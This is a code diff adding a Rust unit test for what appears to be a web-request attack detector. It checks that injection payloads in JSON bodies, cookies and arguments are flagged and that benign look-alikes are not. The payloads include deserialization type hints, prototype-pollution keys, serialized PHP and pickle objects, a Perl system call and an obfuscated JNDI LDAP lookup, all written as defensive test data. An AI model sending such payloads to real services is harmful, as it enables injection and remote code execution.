@@ -241,6 +241,63 @@ fn hosts_of_its_own_network_in_more_notations_were_not_found() {
     ]);
 }
 
+/// What is found in a body of JSON.
+fn in_json(body: &str) -> AttackKinds {
+    marked(&FakeExchange::post("/things").body("application/json", body))
+}
+
+#[test]
+fn objects_of_more_languages_were_not_found() {
+    for body in [
+        r#"{"data":{"@type":"java.net.Inet4Address","val":"a.example"}}"#,
+        r#"["jdk.jfr.internal.Utils", {"a": 1}]"#,
+        r#"{"x":{"$type":"System.IO.FileInfo, mscorlib","name":"a"}}"#,
+        r#"{"Object" : { "prototype": {"role": "owner"}}}"#,
+        r#"{"path":"$1:constructor:constructor"}"#,
+    ] {
+        assert!(in_json(body).has(AttackKind::CommandInjection), "{body}");
+    }
+    for body in [
+        r#"{"@type":"Person","name":"Anna"}"#,
+        r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"3s"}"#,
+        r#"{"@class":"example.shop.Order","id":4711}"#,
+        r#"{"@class":"java.util.HashMap","a":1}"#,
+        r#"{"product":{"prototype":{"model":"B"}}}"#,
+        r#"{"topic":"java.net.URL against java.net.URI"}"#,
+        r#"{"module":"java.io.File"}"#,
+        r#"["org.example.plugin", "com.example.shop"]"#,
+    ] {
+        assert_eq!(in_json(body), AttackKinds::default(), "{body}");
+    }
+    all_are(
+        AttackKind::CommandInjection,
+        &[
+            ("cookie", "a:2:{i:0;s:1:\"x\";i:1;R:2;}"),
+            ("arg", "a:1:{s:4:\"pass\";b:1;}"),
+            ("arg", "O:+4:\"Cart\":1:{s:2:\"id\";i:1;}"),
+            ("arg", "gASVKAAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSUk5QpUpQu"),
+            ("cookie", "BAhvOgtPcmRlcjoKQGlkaQY6CkBuYW1lSSIGYQY6BkVU"),
+            ("arg", "\"system\"('uptime')"),
+            ("arg", "[passthru][0](uptime);"),
+            ("arg", "order['__defineGetter__']"),
+        ],
+    );
+    all_are(
+        AttackKind::TemplateInjection,
+        &[("arg", "@{[system 'uptime']}"), ("json", "Hi @{[ (join ',', 1) ]}")],
+    );
+    all_are(AttackKind::JndiInjection, &[("json", "$&lcub;jndi:ldap://a.example/x&rcub;")]);
+    none_is_marked(&[
+        ("cookie", "a:2:{s:9:\"logged_in\";b:1;s:4:\"lang\";s:2:\"de\";}"),
+        ("arg", "gasvergelijking2024amsterdam-noord"),
+        ("arg", "the operating system (Linux)"),
+        ("json", "the \"system\" (as we call it)"),
+        ("arg", "@{user}"),
+        ("json", "thanks @{[~accountid:5f2]}"),
+        ("arg", "exec(ution) plan"),
+    ]);
+}
+
 fn marked(exchange: &FakeExchange) -> AttackKinds {
     detect(exchange, AttackKinds::all(), &mut Workspace::default())
 }
